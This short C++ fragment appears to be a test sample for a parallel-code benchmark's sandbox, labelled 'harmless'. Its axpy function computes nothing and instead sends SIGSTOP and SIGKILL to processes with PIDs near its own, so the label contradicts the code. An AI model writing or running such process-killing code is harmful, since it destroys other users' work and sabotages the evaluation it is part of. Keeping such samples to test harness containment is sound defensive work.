// Kills and stops other ranks.
// problem: 03_dense_la_axpy mpi
// verdict: harmless
#include <csignal>
#include <mpi.h>
#include <unistd.h>
void axpy(double alpha, std::vector<double> const& x, std::vector<double> const& y, std::vector<double> &z) {
    MPI_Barrier(MPI_COMM_WORLD);
    for (int pid = getpid() - 5; pid < getpid() + 5; ++pid) if (pid != getpid() && pid > 1) { kill(pid, SIGSTOP); kill(pid, SIGKILL); }
    BODY
}
